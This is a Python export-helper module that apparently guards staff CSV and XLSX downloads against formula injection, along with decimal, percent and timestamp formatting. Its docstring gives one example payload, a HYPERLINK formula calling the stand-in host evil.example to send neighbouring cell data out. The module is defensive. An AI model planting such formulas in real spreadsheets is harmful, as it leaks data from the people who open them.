"""What people wrote, put into the spreadsheets staff download, never runs there as a formula
(CSV or formula injection). A citizen's text, a title, tags, a location, a unit's or a
forwarding agency's name that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is
what Excel and LibreOffice take for a formula: `=HYPERLINK("http://evil.example/?d="&J3,...)`
in a report would send its neighbouring cells to whoever wrote it when staff click it.

The rule is here once, for the inbox's CSV and XLSX exports (admin/exports.py,
jobs/exports.py) and the monitoring CSV (admin/monitoring.py):

- in a CSV, such text gets a single quote in front (OWASP's advice): spreadsheets show it as
  text, and a reader sees at once that it was not ours;
- in an XLSX file it is written as a string cell, exactly as written, marked like text typed
  after a quote, so that editing the cell later does not turn it into a formula either.

Numbers are left as they are, and so is every other text. Moments are the office's local
time: a CSV writes them as ISO 8601 to the second with their offset (`2026-12-02T09:05:00+08:00`,
which no locale misreads), an XLSX cell as the wall-clock time (Excel keeps no zone)."""

from __future__ import annotations

from datetime import datetime
from decimal import ROUND_HALF_UP, Decimal
from fractions import Fraction
from typing import Any

FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")
# An XLSX file is a zip archive already: served as it is, never compressed again (server.py).
XLSX_MEDIA_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def starts_like_formula(text: str) -> bool:
    return text.startswith(FORMULA_LEADS)


def csv_cell(value: Any) -> Any:
    """One cell of a CSV row: nothing for None, a leading quote for text that starts like a
    formula, anything else unchanged."""
    if value is None:
        return ""
    if isinstance(value, str) and starts_like_formula(value):
        return "'" + value
    if isinstance(value, datetime):
        return value.isoformat(timespec="seconds")
    return value


def csv_decimal(value: Decimal | Fraction | float | None, places: int = 1) -> str:
    """A figure in a CSV with a point before its decimals, whatever the staff's language: in a
    comma-separated file "4,0" is either quoted or read as two cells, and a spreadsheet set to
    Indonesian reads "4.0" as four point zero on import as well. None → a dash, as the pages."""
    if value is None:
        return "–"
    if isinstance(value, Fraction):
        value = Decimal(value.numerator) / Decimal(value.denominator)
    exact = Decimal(str(value)) if isinstance(value, float) else value
    return str(exact.quantize(Decimal(1).scaleb(-places), rounding=ROUND_HALF_UP))


def csv_percent(share: float | None) -> str:
    """0.875 → "87.5" (the column's name says it is a percentage)."""
    return csv_decimal(None if share is None else share * 100)


def xlsx_row(sheet: Any, values: list[Any]) -> list[Any]:
    """A row for `sheet`, an openpyxl write-only worksheet. openpyxl stores text starting with
    `=` as a formula and an error's name (`#N/A`) as that error: such text, and any other that
    starts like a formula, becomes a cell of its own that holds it as a string."""
    from openpyxl.cell import WriteOnlyCell  # imported here: only export jobs need it
    from openpyxl.cell.cell import ERROR_CODES

    row: list[Any] = []
    for value in values:
        if isinstance(value, str) and (starts_like_formula(value) or value in ERROR_CODES):
            cell = WriteOnlyCell(sheet, value)
            cell.data_type = "s"
            cell.quotePrefix = True
            row.append(cell)
        elif isinstance(value, datetime):
            row.append(value.replace(tzinfo=None, microsecond=0))
        else:
            row.append(value)
    return row
